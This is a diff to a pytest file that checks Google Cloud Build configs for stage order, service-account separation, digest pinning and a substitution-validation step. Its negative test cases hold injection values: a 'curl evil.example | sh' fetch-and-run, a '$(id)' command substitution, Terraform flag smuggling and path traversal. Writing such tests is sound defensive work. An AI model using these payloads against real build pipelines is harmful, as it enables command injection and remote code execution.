@@ -1,4 +1,12 @@
-"""cloudbuild.yaml, checked offline: structure, waitFor graph, stage order, substitutions, files.
+"""The Cloud Build configs, checked offline: structure, waitFor graph, stage order, substitutions,
+files, and the split by trust (README "Security").
+
+Three builds, each with its own service account (infra/build_pipeline.tf):
+- cloudbuild.yaml, the tests: the only build that runs repository code or dev dependencies, as an
+  account with no project role but writing its logs;
+- cloudbuild-image.yaml: docker build + push (writer on the functions repository only);
+- cloudbuild-deploy.yaml: terraform plan -out=tfplan, apply tfplan, a curl smoke check (the
+  deployer; its trigger waits for an approval).
 
 The checks are functions so the tests can also show each one catching a broken config.
 """
@@ -6,36 +14,44 @@ The checks are functions so the tests can also show each one catching a broken c
 from __future__ import annotations
 
 import copy
+import os
 import re
+import subprocess
 from pathlib import Path
 from typing import Any
 
 import pytest
 import yaml
 
+from tests.infra.parsed_terraform import INFRA_DIR, expression, locals_of, resources
+
 pytestmark = pytest.mark.unit
 
 REPO = Path(__file__).resolve().parents[2]
-# The pipeline's stages in the order they must run; each is a step id.
-STAGES = (
-    "lint",
-    "typecheck",
-    "unit-tests",
-    "emulator-tests",
-    "build",
-    "push",
-    "terraform-plan",
-    "terraform-apply",
-    "smoke-test",
-)
+TESTS, IMAGE, DEPLOY = "cloudbuild.yaml", "cloudbuild-image.yaml", "cloudbuild-deploy.yaml"
+# Each build's stages in the order they must run (step ids), and the account it runs as.
+STAGES = {
+    TESTS: ("lint", "typecheck", "unit-tests", "emulator-tests"),
+    IMAGE: ("validate-substitutions", "build", "push"),
+    DEPLOY: ("validate-substitutions", "image-digest", "terraform-plan", "terraform-apply", "smoke-test"),
+}
+ACCOUNT = {TESTS: "test", IMAGE: "image", DEPLOY: "deployer"}
+SIDE_BY_SIDE = {("lint", "typecheck")}
 BUILT_IN = {"PROJECT_ID", "SHORT_SHA", "COMMIT_SHA", "BUILD_ID", "LOCATION", "REPO_NAME", "BRANCH_NAME", "TAG_NAME"}
+VALIDATION = "validate-substitutions"
 _VARIABLE = re.compile(r"\$\{?(_[A-Z0-9_]+|[A-Z][A-Z0-9_]*)\}?")
 _PATHLIKE = re.compile(r"^[A-Za-z0-9_.-]+(?:/[A-Za-z0-9_.-]*)*$")
 _FILE_SUFFIXES = (".txt", ".py", ".toml", ".yaml", ".tf", ".tfvars", ".hcl", ".json", ".cfg")
+_DIGEST = re.compile(r"^[a-z0-9./-]+(?::[A-Za-z0-9_.-]+)?@sha256:[0-9a-f]{64}$")
+# What running repository code or the dev dependencies looks like in a step.
+_RUNS_REPOSITORY_CODE = re.compile(
+    r"pip install|npm (?:ci|install|run|test)|npx |pytest|ruff|mypy|lint-imports|python3? -m (?!venv\b)"
+    r"|\.venv|node_modules|(?<![.\w])\./|\b(?:bash|sh) [^-]"
+)
 
 
-def load() -> dict[str, Any]:
-    document = yaml.safe_load((REPO / "cloudbuild.yaml").read_text())
+def load(name: str) -> dict[str, Any]:
+    document = yaml.safe_load((REPO / name).read_text())
     assert isinstance(document, dict)
     return document
 
@@ -80,30 +96,34 @@ def ancestors(document: dict[str, Any], step_id: str) -> set[str]:
     return seen
 
 
-def order_errors(document: dict[str, Any]) -> list[str]:
+def order_errors(document: dict[str, Any], stages: tuple[str, ...]) -> list[str]:
     errors = []
     ids = {step["id"] for step in document["steps"]}
-    for stage in STAGES:
+    for stage in stages:
         if stage not in ids:
             errors.append(f"missing stage {stage}")
-    for index, stage in enumerate(STAGES):
+    for index, stage in enumerate(stages):
         if stage not in ids:
             continue
         before = ancestors(document, stage)
         if stage in before:
             errors.append(f"{stage} waits for itself (cycle)")
-        for earlier in STAGES[:index]:
-            if earlier in {"lint", "typecheck"} and stage == "typecheck":
-                continue  # lint and types run side by side
+        for earlier in stages[:index]:
+            if (earlier, stage) in SIDE_BY_SIDE:
+                continue
             if earlier not in before:
                 errors.append(f"{stage} does not wait (directly or not) for {earlier}")
     return errors
 
 
+def script(step: dict[str, Any]) -> str:
+    """What the step runs: its entrypoint and args (not its env)."""
+    return "\n".join([str(step.get("entrypoint", ""))] + [str(a) for a in step.get("args", [])])
+
+
 def step_text(step: dict[str, Any]) -> str:
-    parts = [str(step.get("name", "")), str(step.get("entrypoint", "")), str(step.get("dir", ""))]
-    parts += [str(a) for a in step.get("args", [])] + [str(e) for e in step.get("env", [])]
-    return "\n".join(parts)
+    parts = [str(step.get("name", "")), str(step.get("dir", "")), script(step)]
+    return "\n".join(parts + [str(e) for e in step.get("env", [])])
 
 
 def undeclared_substitutions(document: dict[str, Any]) -> list[str]:
@@ -111,17 +131,94 @@ def undeclared_substitutions(document: dict[str, Any]) -> list[str]:
     texts = [step_text(step) for step in document["steps"]] + [
         str(v) for v in document.get("substitutions", {}).values()
     ]
+    texts.append(str(document.get("serviceAccount", "")))
     used = {name for text in texts for name in _VARIABLE.findall(text.replace("$$", ""))}
     return sorted(name for name in used if name not in declared and name not in BUILT_IN)
+
+
+def substitutions_in_scripts(document: dict[str, Any]) -> list[str]:
+    """Steps whose entrypoint, args, name or dir hold a substitution: a value pasted into a script
+    (`$$` is Cloud Build's escape for a literal `$`, the script's own variables)."""
+    found = []
+    for step in document["steps"]:
+        for where, text in (
+            ("script", script(step)),
+            ("name", str(step.get("name"))),
+            ("dir", str(step.get("dir", ""))),
+        ):
+            names = _VARIABLE.findall(text.replace("$$", ""))
+            if names:
+                found.append(f"{step['id']} {where}: {sorted(set(names))}")
+    return found
+
+
+def env_substitutions(step: dict[str, Any]) -> dict[str, str]:
+    """The step's env variables set from a substitution: NAME -> the substitution."""
+    result = {}
+    for entry in step.get("env", []):
+        name, _, value = str(entry).partition("=")
+        found = re.fullmatch(r"\$\{(_?[A-Z][A-Z0-9_]*)\}", value)
+        if found:
+            result[name] = found.group(1)
+        elif "$" in value:
+            result[name] = value  # anything else mixing a substitution in is reported below
+    return result
+
+
+def validation_errors(document: dict[str, Any]) -> list[str]:
+    """A build that takes substitutions checks every one first: the validation step is the first,
+    waits for nothing, every other step waits for it, and every env variable set from a
+    substitution anywhere is set the same way in the validation step and checked there."""
+    steps = document["steps"]
+    used = {name: value for step in steps for name, value in env_substitutions(step).items()}
+    if not document.get("substitutions"):
+        return (
+            []
+            if not any(_VARIABLE.findall(step_text(s).replace("$$", "")) for s in steps)
+            else ["no substitutions block"]
+        )
+    errors = []
+    validation = next((step for step in steps if step["id"] == VALIDATION), {"id": None})
+    if steps[0] is not validation or validation.get("waitFor") != ["-"]:
+        errors.append(f"the first step is {steps[0]['id']}, not {VALIDATION} waiting for nothing")
+    for step in steps:
+        if step is not validation and VALIDATION not in ancestors(document, step["id"]):
+            errors.append(f"{step['id']} does not wait for {VALIDATION}")
+    checked = env_substitutions(validation)
+    body = script(validation)
+    for name, value in used.items():
+        if not re.fullmatch(r"_?[A-Z][A-Z0-9_]*", value):
+            errors.append(f"env {name} mixes a substitution into other text: {value}")
+        elif checked.get(name) != value:
+            errors.append(f"{name} (from {value}) is not checked by {VALIDATION}")
+        elif not re.search(rf"^valid {re.escape(value)} \"\$\${name}\" '\^.*\$\$'$", body, re.M):
+            errors.append(f"{VALIDATION} has no anchored pattern check for {name}")
+    return errors
+
+
+def repository_code_outside_the_test_build(documents: dict[str, dict[str, Any]]) -> list[str]:
+    return [
+        f"{name}: {step['id']}"
+        for name, document in documents.items()
+        if name != TESTS
+        for step in document["steps"]
+        if _RUNS_REPOSITORY_CODE.search(script(step))
+    ]
+
+
+def unpinned_images(document: dict[str, Any]) -> list[str]:
+    return [f"{step['id']}: {step['name']}" for step in document["steps"] if not _DIGEST.match(str(step["name"]))]
 
 
 def missing_files(document: dict[str, Any]) -> list[str]:
     missing = []
     for step in document["steps"]:
+        if step["id"] == VALIDATION:
+            continue  # patterns, not paths
         base = REPO / str(step.get("dir", ""))
         if not base.is_dir():
             missing.append(f"{step['id']}: dir {step.get('dir')}")
-        text = step_text(step)
+        text = script(step)
         for module in re.findall(r"python3? -m ([A-Za-z_][\w.]*)", text) + re.findall(
             r"bin/python -m ([A-Za-z_][\w.]*)", text
         ):
@@ -130,64 +227,252 @@ def missing_files(document: dict[str, Any]) -> list[str]:
             candidate = REPO / module.replace(".", "/")
             if not ((candidate / "__main__.py").is_file() or candidate.with_suffix(".py").is_file()):
                 missing.append(f"{step['id']}: module {module}")
-        for token in re.split(r"[\s\"'=\[\],]+", text):
-            if not _PATHLIKE.match(token) or token.startswith((".venv", "-")) or token in {"api_url.txt", "tfplan"}:
+        for token in re.split(r"[\s\"'=\[\],()]+", text):
+            if not _PATHLIKE.match(token) or token.startswith((".venv", "-")) or len(token) < 3:
                 continue
+            if token in {"api_url.txt", "image_ref.txt", "tfplan", "/dev/null"}:
+                continue  # written by an earlier step
             if ("/" in token and not token.startswith(("gcr.io", "hashicorp"))) or token.endswith(_FILE_SUFFIXES):
-                if token.startswith(".venv") or token.count(".") > 2:
+                if token.count(".") > 2:
                     continue
                 if not (base / token).exists() and not (REPO / token).exists():
                     missing.append(f"{step['id']}: {token}")
     return missing
 
 
-def test_structure_is_valid() -> None:
-    assert structure_errors(load()) == []
+def every_config() -> dict[str, dict[str, Any]]:
+    return {name: load(name) for name in STAGES}
 
 
-def test_every_wait_for_names_an_existing_step() -> None:
-    assert dangling_wait_for(load()) == []
+def test_the_three_builds_are_all_the_cloud_build_configs() -> None:
+    assert sorted(p.name for p in REPO.glob("cloudbuild*.yaml")) == sorted(STAGES)
 
 
-def test_the_order_is_lint_tests_build_deploy_smoke() -> None:
-    assert order_errors(load()) == []
+@pytest.mark.parametrize("name", sorted(STAGES))
+def test_structure_wait_for_and_stage_order(name: str) -> None:
+    document = load(name)
+    assert structure_errors(document) == []
+    assert dangling_wait_for(document) == []
+    assert order_errors(document, STAGES[name]) == []
 
 
-def test_every_substitution_used_is_declared_and_none_looks_like_a_secret() -> None:
-    document = load()
+@pytest.mark.parametrize("name", sorted(STAGES))
+def test_each_build_names_its_own_service_account_and_logs_as_one_allows(name: str) -> None:
+    document = load(name)
+    account_id = locals_of(INFRA_DIR)["build_accounts"][ACCOUNT[name]]["account_id"]
+    assert (
+        document["serviceAccount"]
+        == f"projects/${{PROJECT_ID}}/serviceAccounts/{account_id}@${{PROJECT_ID}}.iam.gserviceaccount.com"
+    )
+    assert (
+        document["options"]["logging"] == "CLOUD_LOGGING_ONLY"
+    )  # the default logging refuses a user-specified account
+    triggers = expression(locals_of(INFRA_DIR)["build_triggers"])
+    assert f'config = "{name}", account = "{ACCOUNT[name]}"' in triggers
+
+
+def test_only_the_test_build_runs_repository_code_or_dev_dependencies() -> None:
+    documents = every_config()
+    assert repository_code_outside_the_test_build(documents) == []
+    tests = [step["id"] for step in documents[TESTS]["steps"] if _RUNS_REPOSITORY_CODE.search(script(step))]
+    assert set(tests) >= {"install", "lint", "typecheck", "unit-tests", "auth-emulator-install", "emulator-tests"}
+    # The image build runs the Dockerfile; docker build keeps its RUN steps off the Cloud Build
+    # network (where the build's credentials are served) unless told --network=cloudbuild.
+    build = next(step for step in documents[IMAGE]["steps"] if step["id"] == "build")
+    assert "docker build" in script(build) and "--network" not in script(build)
+
+
+def _grantees(body: dict[str, Any]) -> list[str]:
+    """Which build accounts (test, image, deployer) an IAM resource grants to."""
+    member = expression(body.get("member", ""))
+    named = re.findall(r'google_service_account\.build\["(\w+)"\]', member)
+    if "google_service_account.build[each.key]" in member:
+        named += re.findall(r'"(\w+)"', expression(body.get("for_each", "")))
+    return named
+
+
+def test_the_test_account_has_no_role_but_writing_logs_and_the_image_account_only_pushes() -> None:
+    grants: dict[str, set[tuple[str, str]]] = {"test": set(), "image": set(), "deployer": set()}
+    for path in INFRA_DIR.glob("*.tf"):
+        for kind in re.findall(r'resource "(google_\w+_iam_\w+)"', path.read_text()):
+            for body in resources(INFRA_DIR, kind).values():
+                for account in _grantees(body):
+                    grants[account].add((kind, str(body["role"])))
+    assert grants["test"] == {("google_project_iam_member", "roles/logging.logWriter")}
+    assert grants["image"] == {
+        ("google_project_iam_member", "roles/logging.logWriter"),
+        ("google_artifact_registry_repository_iam_member", "roles/artifactregistry.writer"),
+    }
+    assert not {role for _, role in grants["deployer"]} & {"roles/owner", "roles/editor"}
+
+
+def test_the_deployer_may_grant_only_the_roles_this_configuration_grants() -> None:
+    grant = resources(INFRA_DIR, "google_project_iam_member")["deployer_grants_listed_roles"]
+    assert grant["role"] == "roles/resourcemanager.projectIamAdmin"
+    assert (
+        "modifiedGrantsByRole" in grant["condition"][0]["expression"]
+        and ".hasOnly(" in grant["condition"][0]["expression"]
+    )
+    listed = set(re.findall(r"roles/[\w.]+", str(locals_of(INFRA_DIR)["roles_the_deployer_grants"])))
+    its_own = {"deployer", "deployer_grants_listed_roles"}
+    granted = {
+        str(body["role"])
+        for name, body in resources(INFRA_DIR, "google_project_iam_member").items()
+        if name not in its_own
+    }
+    assert granted == listed  # every project role infra/ grants to others, and no more
+    assert not listed & {
+        "roles/resourcemanager.projectIamAdmin",
+        "roles/owner",
+        "roles/editor",
+        "roles/iam.serviceAccountAdmin",
+    }
+
+
+def test_the_deploy_trigger_waits_for_a_manual_approval() -> None:
+    triggers = expression(locals_of(INFRA_DIR)["build_triggers"])
+    approvals = dict(
+        re.findall(r'config = "(cloudbuild[\w-]*\.yaml)", account = "\w+", approval = (true|false)', triggers)
+    )
+    assert approvals == {TESTS: "false", IMAGE: "false", DEPLOY: "true"}
+    trigger = resources(INFRA_DIR, "google_cloudbuild_trigger")["build"]
+    assert expression(trigger["approval_config"][0]["approval_required"]) == "each.value.approval"
+    assert expression(trigger["service_account"]) == "google_service_account.build[each.value.account].id"
+
+
+@pytest.mark.parametrize("name", sorted(STAGES))
+def test_substitutions_reach_scripts_only_through_env_after_validation(name: str) -> None:
+    document = load(name)
     assert undeclared_substitutions(document) == []
-    assert {"_REGION", "_IMAGE_TAG"} <= set(document["substitutions"])
-    keys = set(document) | {key for step in document["steps"] for key in step}
-    assert not {"secretEnv", "availableSecrets"} & keys
-    public_by_design = {"_FIREBASE_WEB_API_KEY"}  # a Firebase web API key ships in every web page: not a secret
-    for key in set(document["substitutions"]) - public_by_design:
-        assert not re.search(r"SECRET|PASSWORD|TOKEN|KEY|CREDENTIAL", key), key
+    assert substitutions_in_scripts(document) == []
+    assert validation_errors(document) == []
 
 
-def test_every_file_or_module_a_step_uses_exists() -> None:
-    assert missing_files(load()) == []
+def _run_validation(document: dict[str, Any], **values: str) -> subprocess.CompletedProcess[str]:
+    """The validation step's script, run here with bash as Cloud Build would run it."""
+    step = document["steps"][0]
+    body = step["args"][-1].replace("$$", "$")
+    env = {"PATH": os.environ["PATH"], **values}
+    return subprocess.run(["bash", "-ceu", body], env=env, capture_output=True, text=True, check=False, timeout=30)
 
 
-def test_the_image_pushed_is_the_one_built_and_deployed() -> None:
-    steps = {step["id"]: step_text(step) for step in load()["steps"]}
-    assert "${_IMAGE}" in steps["build"]
-    assert "${_IMAGE}" in steps["push"]
-    assert "image=${_IMAGE}" in steps["terraform-plan"]
-    assert "tfplan" in steps["terraform-apply"]
+_GOOD = {
+    "PROJECT_ID": "my-project-1",
+    "REGION": "europe-west1",
+    "REPOSITORY": "wild-workouts",
+    "IMAGE_TAG": "abc1234",
+    "IMAGE": "europe-west1-docker.pkg.dev/my-project-1/wild-workouts/functions:abc1234",
+    "DEPLOYMENT_MODE": "per_function",
+    "TF_STATE_BUCKET": "my-project-1-tfstate",
+    "TF_STATE_PREFIX": "wild-workouts",
+    "FIREBASE_WEB_API_KEY": "",
+    "FIREBASE_AUTH_DOMAIN": "",
+    "GITHUB_OWNER": "",
+    "GITHUB_REPO": "",
+    "DEPLOY_APPROVERS": "user:reviewer@example.com,group:ops@example.com",
+}
+
+
+@pytest.mark.parametrize(
+    ("variable", "bad"),
+    [
+        ("REGION", "europe-west1; curl evil.example | sh"),
+        ("REGION", "europe-west1\nx"),
+        ("IMAGE_TAG", ""),  # SHORT_SHA is empty in a build by hand without _IMAGE_TAG
+        ("IMAGE", "europe-west1-docker.pkg.dev/my-project-1/wild-workouts/functions:abc $(id)"),
+        ("DEPLOYMENT_MODE", "per_function -var=image=evil"),
+        ("TF_STATE_BUCKET", "bucket -backend-config=x"),
+        ("TF_STATE_PREFIX", "../other"),
+        ("DEPLOY_APPROVERS", 'user:a@example.com","allUsers'),
+    ],
+)
+def test_the_validation_step_refuses_a_bad_value_and_passes_good_ones(variable: str, bad: str) -> None:
+    deploy = load(DEPLOY)
+    assert _run_validation(deploy, **_GOOD).returncode == 0
+    refused = _run_validation(deploy, **{**_GOOD, variable: bad})
+    assert refused.returncode != 0
+    assert "is not valid" in refused.stderr
+    image_build = load(IMAGE)
+    assert _run_validation(image_build, **_GOOD).returncode == 0
+    if variable in env_substitutions(image_build["steps"][0]):
+        assert _run_validation(image_build, **{**_GOOD, variable: bad}).returncode != 0
+
+
+def test_the_saved_plan_is_what_apply_runs_and_the_providers_come_from_the_lock() -> None:
+    steps = {step["id"]: script(step) for step in load(DEPLOY)["steps"]}
+    assert "terraform init -input=false -lockfile=readonly " in steps["terraform-plan"]
+    assert re.search(r"^terraform plan -input=false -out=tfplan ", steps["terraform-plan"], re.M)
+    assert "terraform show -no-color tfplan" in steps["terraform-plan"]  # the plan in the build log
+    assert re.search(r"^terraform apply -input=false tfplan$", steps["terraform-apply"], re.M)
+    every_apply = [line for text in steps.values() for line in text.splitlines() if "terraform apply" in line]
+    assert every_apply == ["terraform apply -input=false tfplan"]
+    assert not any("-auto-approve" in text or "-target" in text for text in steps.values())
+    assert (
+        "image_ref.txt" in steps["image-digest"] and '-var="image=$$(cat ../image_ref.txt)"' in steps["terraform-plan"]
+    )
+
+
+def test_the_image_built_is_the_one_pushed() -> None:
+    steps = {step["id"]: step for step in load(IMAGE)["steps"]}
+    assert 'docker build --file Dockerfile --tag "$$IMAGE" .' in script(steps["build"])
+    assert 'docker push "$$IMAGE"' in script(steps["push"])
+    assert env_substitutions(steps["build"]) == env_substitutions(steps["push"]) == {"IMAGE": "_IMAGE"}
+    deploy = {step["id"]: step for step in load(DEPLOY)["steps"]}
+    assert env_substitutions(deploy["image-digest"]) == {"IMAGE": "_IMAGE"}
+    assert load(IMAGE)["substitutions"]["_IMAGE"] == load(DEPLOY)["substitutions"]["_IMAGE"]
+
+
+@pytest.mark.parametrize("name", sorted(STAGES))
+def test_every_build_image_is_pinned_by_digest_and_the_same_image_by_the_same_digest(name: str) -> None:
+    assert unpinned_images(load(name)) == []
+    digests: dict[str, set[str]] = {}
+    for document in every_config().values():
+        for step in document["steps"]:
+            image, _, digest = str(step["name"]).partition("@")
+            digests.setdefault(image, set()).add(digest)
+    assert all(len(found) == 1 for found in digests.values()), digests
+
+
+def test_no_secret_is_handed_to_a_build() -> None:
+    for document in every_config().values():
+        keys = set(document) | {key for step in document["steps"] for key in step}
+        assert not {"secretEnv", "availableSecrets"} & keys
+        public_by_design = {"_FIREBASE_WEB_API_KEY"}  # a Firebase web API key ships in every web page: not a secret
+        for key in set(document.get("substitutions", {})) - public_by_design:
+            assert not re.search(r"SECRET|PASSWORD|TOKEN|KEY|CREDENTIAL", key), key
+
+
+@pytest.mark.parametrize("name", sorted(STAGES))
+def test_every_file_or_module_a_step_uses_exists(name: str) -> None:
+    assert missing_files(load(name)) == []
 
 
 def test_the_checks_catch_a_broken_config() -> None:
-    broken = copy.deepcopy(load())
+    broken = copy.deepcopy(load(DEPLOY))
     steps = {step["id"]: step for step in broken["steps"]}
-    steps["build"]["waitFor"] = ["unit-test"]  # typo: dangling, and build no longer waits for emulator tests
-    steps["smoke-test"]["waitFor"] = ["push"]  # smoke before deploy
-    steps["push"]["args"] = ["push", "${_IMAGE_TAGG}"]
-    steps["lint"]["args"] = ["-ceu", "ruff check . --config ruff-missing.toml"]
-    steps["unit-tests"]["args"] = ["-ceu", "python -m ops.missing_module"]
+    steps["terraform-apply"]["waitFor"] = ["terraform-plann"]  # typo: dangling, apply no longer after plan
+    steps["smoke-test"]["waitFor"] = ["image-digest"]  # smoke before deploy
+    steps["terraform-plan"]["args"][-1] += "\nterraform plan -var=region=${_REGION} -var=x=${_IMAGE_TAGG}"
+    steps["image-digest"]["env"] = ["IMAGE=${_IMAGE}", "MODE=${_DEPLOYMENT_MODE}"]
+    steps["smoke-test"]["args"] = ["-ceu", "python -m ops.missing_module && pip install -r requirements-dev.txt"]
+    steps["smoke-test"]["name"] = "hashicorp/terraform:1.11"
+    steps["image-digest"]["waitFor"] = ["-"]  # no longer after the validation
+    broken["steps"].insert(0, broken["steps"].pop(1))
 
-    assert dangling_wait_for(broken) == ["build waits for unknown unit-test"]
-    errors = order_errors(broken)
-    assert "build does not wait (directly or not) for emulator-tests" in errors
+    assert dangling_wait_for(broken) == ["terraform-apply waits for unknown terraform-plann"]
+    errors = order_errors(broken, STAGES[DEPLOY])
+    assert "terraform-apply does not wait (directly or not) for terraform-plan" in errors
     assert "smoke-test does not wait (directly or not) for terraform-apply" in errors
     assert undeclared_substitutions(broken) == ["_IMAGE_TAGG"]
-    assert missing_files(broken) == ["lint: ruff-missing.toml", "unit-tests: module ops.missing_module"]
+    assert substitutions_in_scripts(broken) == ["terraform-plan script: ['_IMAGE_TAGG', '_REGION']"]
+    assert set(validation_errors(broken)) == {
+        "the first step is image-digest, not validate-substitutions waiting for nothing",
+        "image-digest does not wait for validate-substitutions",
+        "terraform-plan does not wait for validate-substitutions",
+        "terraform-apply does not wait for validate-substitutions",
+        "smoke-test does not wait for validate-substitutions",
+        "MODE (from _DEPLOYMENT_MODE) is not checked by validate-substitutions",
+    }
+    assert repository_code_outside_the_test_build({DEPLOY: broken}) == [f"{DEPLOY}: smoke-test"]
+    assert unpinned_images(broken) == ["smoke-test: hashicorp/terraform:1.11"]
+    assert missing_files(broken) == ["smoke-test: module ops.missing_module"]
